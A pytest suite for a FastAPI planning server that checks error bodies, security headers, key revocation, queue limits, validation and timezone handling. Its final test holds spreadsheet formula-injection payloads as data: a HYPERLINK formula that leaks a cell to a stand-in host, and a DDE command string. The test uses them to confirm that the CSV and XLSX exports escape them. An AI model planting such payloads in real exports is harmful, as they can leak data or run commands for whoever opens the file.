"""Issue 17 on the server: every error has the ErrorOut body, security headers, revoked keys stay
revoked, keys are long, the job queue is bounded (429 + Retry-After), speeds of 0 are refused at
upload, concurrent re-plans with one Idempotency-Key store one scenario, and re-plan times carry
their UTC offset."""

from __future__ import annotations

import datetime as dt
import json
import threading
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from pydantic import ValidationError
from sqlalchemy import event, func, select

from api.app import create_app
from api.auth import create_key
from api.server import revoke_key
from api.settings import Settings
from api.tables import ApiKey, ScenarioRecord
from api.worker import cap_memory, memory_error
from tests.api.conftest import KEYS, headers, make_settings, tiny_week, upload_tiny, wait_for

JSON = {"Content-Type": "application/json"}


@pytest.fixture
def idle(sqlite_url: str, tmp_path: Path):
    """The app with a small queue and no worker processes (jobs stay queued)."""
    settings = make_settings(sqlite_url, tmp_path, run_jobs=False, max_queued_per_key=2, max_queued=3, retry_after_s=17)
    with TestClient(create_app(settings)) as c:
        yield c


@pytest.mark.parametrize(("method", "path", "status"), [
    ("get", "/v1/nowhere", 404), ("delete", "/v1/scenarios", 405), ("put", "/healthz", 405)])
def test_framework_errors_have_the_problems_body(idle: TestClient, method: str, path: str, status: int) -> None:
    r = idle.request(method, path, headers=headers("coordinator"))
    assert r.status_code == status
    assert set(r.json()) == {"detail", "problems"} and r.json()["problems"] == []


def test_a_broken_multipart_body_is_400_with_the_problems_body(idle: TestClient) -> None:
    r = idle.post("/v1/scenarios/files", content=b"--x\r\nnot a part", headers={
        **headers("coordinator"), "Content-Type": "multipart/form-data; boundary=x"})
    assert r.status_code in (400, 422) and "problems" in r.json()


def test_security_headers(idle: TestClient) -> None:
    open_ = idle.get("/healthz")
    assert open_.headers["x-content-type-options"] == "nosniff" and "cache-control" not in open_.headers
    authed = idle.get("/v1/scenarios", headers=headers("dashboard"))
    assert authed.headers["x-content-type-options"] == "nosniff"
    assert authed.headers["cache-control"] == "private, no-cache" and "X-API-Key" in authed.headers["vary"]
    refused = idle.get("/v1/scenarios", headers={"X-API-Key": "x" * 30})
    assert refused.status_code == 401 and refused.headers["cache-control"] == "private, no-cache"


def test_a_revoked_bootstrap_key_stays_revoked_after_a_restart(sqlite_url: str, tmp_path: Path) -> None:
    settings = make_settings(sqlite_url, tmp_path, run_jobs=False)
    with TestClient(create_app(settings)) as c:
        assert c.get("/v1/scenarios", headers=headers("dashboard")).status_code == 200
        with c.app.state.sessions() as s:
            key_id = s.scalar(select(ApiKey.id).where(ApiKey.role == "dashboard"))
    assert revoke_key(key_id, settings)
    with TestClient(create_app(settings)) as c:  # the same JEMPUT_BOOTSTRAP_KEYS again
        r = c.get("/v1/scenarios", headers=headers("dashboard"))
        assert r.status_code == 401 and r.json()["detail"] == "unknown or revoked API key"
        assert c.get("/v1/scenarios", headers=headers("coordinator")).status_code == 200


def test_keys_have_a_minimum_length(sqlite_url: str, tmp_path: Path) -> None:
    with pytest.raises(ValidationError, match="shorter than 24 characters"):
        Settings(data_dir=tmp_path, database_url=sqlite_url, bootstrap_keys={"rahasia": ("coordinator", None)})
    with TestClient(create_app(make_settings(sqlite_url, tmp_path, run_jobs=False))) as c:
        with pytest.raises(ValueError, match="at least 24 characters"):
            create_key(c.app.state.sessions, "coordinator", key="pendek")


def test_the_queue_is_bounded_per_key_and_in_all(idle: TestClient) -> None:
    sid = upload_tiny(idle)
    plan = lambda who="coordinator", **kw: idle.post("/v1/plans", json={"scenario_id": sid, **kw},  # noqa: E731
                                                     headers=headers(who))
    first, second = plan(seed=1), plan(seed=2)
    assert first.status_code == second.status_code == 202
    full = plan(seed=3)
    assert full.status_code == 429 and full.headers["retry-after"] == "17"
    assert full.json()["detail"] == ("this key has 2 plan jobs queued or running (at most 2, JEMPUT_MAX_QUEUED_PER_KEY); "
                                     "retry later or cancel one")
    retry = idle.post("/v1/plans", json={"scenario_id": sid, "seed": 1}, headers={
        **headers("coordinator"), "Idempotency-Key": "a"})
    assert retry.status_code == 429  # a new request (the key was not used before) waits too
    assert idle.delete(f"/v1/plans/{first.json()['id']}", headers=headers("coordinator")).status_code == 200
    assert plan(seed=3).status_code == 202  # cancelling frees a place
    # the whole server: 3 jobs at most, whoever asks
    idle.app.state.settings = idle.app.state.settings.model_copy(update={"max_queued_per_key": 100})
    r = plan(seed=4)
    assert r.status_code == 202
    r = plan(seed=5)
    assert r.status_code == 429 and "the server has 3 plan jobs queued or running (at most 3" in r.json()["detail"]


@pytest.mark.parametrize(("setting", "value"), [("speed_kmh", {"car": 0}), ("circuity", {"boat": 0})])
def test_a_zero_speed_or_circuity_is_refused_at_upload(idle: TestClient, setting: str, value: dict) -> None:
    body = json.loads(tiny_week().model_dump_json(exclude={"source_dir"}))
    body["travel"][setting] = {**body["travel"][setting], **value}
    r = idle.post("/v1/scenarios", content=json.dumps(body), headers={**headers("coordinator"), **JSON})
    assert r.status_code == 422
    assert [(p["field"], p["reason"].split(" must")[0]) for p in r.json()["problems"]] == [(f"travel.{setting}", setting)]


def test_the_memory_cap_fails_a_large_allocation_with_a_clear_message() -> None:
    import multiprocessing

    ctx = multiprocessing.get_context("spawn")
    with ctx.Pool(1) as pool:
        assert pool.apply(_allocate_under_cap, (512,)) == "MemoryError"
    assert memory_error(512) == ("the solve needed more memory than one solve may use (512 MB, JEMPUT_SOLVE_MEMORY_MB); "
                                 "plan fewer sites at once or raise the cap")


def _allocate_under_cap(mb: int) -> str:
    cap_memory(mb)
    try:
        bytearray(2 * mb * 1024 * 1024)
    except MemoryError:
        return "MemoryError"
    return "allocated"


@pytest.mark.slow
def test_concurrent_replans_with_one_key_store_one_scenario_and_an_aware_time(client: TestClient) -> None:
    sid = upload_tiny(client)
    r = client.post("/v1/plans?wait=60", json={"scenario_id": sid, "time_limit_s": 2, "max_solutions": 20},
                    headers=headers("coordinator"))
    assert r.json()["status"] == "done", r.text
    pid, start = r.json()["id"], r.json()["plan"]["horizon_start"]
    with client.app.state.sessions() as s:
        before = s.scalar(select(func.count()).select_from(ScenarioRecord))
    body = {"from": f"{start}T12:00", "time_limit_s": 2, "max_solutions": 20, "outcomes": []}
    answers: list = []

    def post() -> None:
        answers.append(client.post(f"/v1/plans/{pid}/outcomes", json=body,
                                   headers={**headers("coordinator"), "Idempotency-Key": "replan-once"}))

    threads = [threading.Thread(target=post) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert {a.status_code for a in answers} <= {200, 202} and len({a.json()["id"] for a in answers}) == 1
    with client.app.state.sessions() as s:
        assert s.scalar(select(func.count()).select_from(ScenarioRecord)) == before + 1
    job = wait_for(client, answers[0].json()["id"])
    when = dt.datetime.fromisoformat(job["replan_of"]["from"])
    assert when.utcoffset() == dt.timedelta(hours=7) and when.hour == 12  # local time in Asia/Jakarta (WIB)
    aware = {**body, "from": f"{start}T12:00+08:00"}  # a WITA coordinator says so
    r = client.post(f"/v1/plans/{pid}/outcomes", json=aware, headers=headers("coordinator"))
    assert r.json()["replan_of"]["from"] == f"{start}T12:00:00+08:00"
    assert KEYS  # the bootstrap keys are long enough to be accepted


def test_unknown_query_parameters_and_non_iso_path_dates_are_422(idle: TestClient) -> None:
    r = idle.get("/v1/scenarios?limt=5", headers=headers("dashboard"))
    assert r.status_code == 422 and r.json()["problems"] == [{
        "file": "query", "row": None, "field": "limt", "value": "'5'",
        "reason": "unknown query parameter 'limt'; did you mean 'limit'?", "severity": "error"}]
    assert idle.get("/v1/scenarios?limit=5", headers=headers("dashboard")).status_code == 200
    r = idle.get(f"/v1/plans/{'0' * 32}/teams/T1/days/0/sw.js")  # pydantic alone reads 0 as 1970-01-01
    assert r.status_code == 422 and r.json()["problems"][0]["reason"] == "expected a date YYYY-MM-DD"
    assert idle.get(f"/v1/plans/{'0' * 32}/teams/T1/days/2026-11-23/sw.js").status_code == 200


def test_listing_scenarios_reads_no_scenario_json(idle: TestClient) -> None:
    upload_tiny(idle)
    statements: list[str] = []
    listen = lambda conn, cursor, statement, *rest: statements.append(statement)  # noqa: E731
    event.listen(idle.app.state.engine, "before_cursor_execute", listen)
    try:
        r = idle.get("/v1/scenarios", headers=headers("dashboard"))
    finally:
        event.remove(idle.app.state.engine, "before_cursor_execute", listen)
    assert r.status_code == 200 and r.json()["total"] == 1 and r.json()["items"][0]["sites"] == len(tiny_week().sites)
    assert statements and not any("scenario_json" in s for s in statements)


EVIL = ['=HYPERLINK("http://x.example/?"&A1,"klik")', "+62 811 000", "-Desa Bawah", "@SUM(A1)",
        "=cmd|'/c calc'!A1", "Desa Biasa", "Desa Tujuh", "Desa Delapan"]


def test_roster_exports_over_http_keep_formula_like_names_as_text(client: TestClient) -> None:
    """The probe of the issue: names starting with =, +, -, @ come back as text in CSV and XLSX."""
    import csv
    import io
    import re
    import zipfile

    week = tiny_week()
    sites = tuple(s.model_copy(update={"name": EVIL[i % len(EVIL)]}) for i, s in enumerate(week.sites))
    raw = week.model_copy(update={"sites": sites}).model_dump_json(exclude={"source_dir"})
    r = client.post("/v1/scenarios", content=raw, headers={**headers("coordinator"), **JSON})
    assert r.status_code == 201, r.text
    r = client.post("/v1/plans?wait=60", json={"scenario_id": r.json()["id"], "time_limit_s": 2, "max_solutions": 20},
                    headers=headers("coordinator"))
    assert r.json()["status"] == "done", r.text
    pid = r.json()["id"]
    text = client.get(f"/v1/plans/{pid}/export/csv", headers=headers("dashboard")).content.decode("utf-8-sig")
    cells = {c for row in csv.reader(io.StringIO(text)) for c in row}
    visited = {c.lstrip("'") for c in cells} & set(EVIL)
    assert visited & set(EVIL[:5]), "the plan visits none of the formula-like names"  # the test would prove nothing
    for name in visited & set(EVIL[:5]):
        assert "'" + name in cells and name not in cells
    book = client.get(f"/v1/plans/{pid}/export/xlsx", headers=headers("dashboard")).content
    with zipfile.ZipFile(io.BytesIO(book)) as z:
        sheets = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/sheet"))
        strings = z.read("xl/sharedStrings.xml") if "xl/sharedStrings.xml" in z.namelist() else b""
    formulas = re.findall(rb"<f>(.*?)</f>", sheets)
    assert not [f for f in formulas if b"HYPERLINK(\"http://x" in f or b"cmd|" in f or b"SUM(A1)" in f], formulas
    assert any(name.replace("&", "&amp;").replace('"', "&quot;").encode() in strings + sheets or name.encode() in strings + sheets
               for name in visited & set(EVIL[:5]))
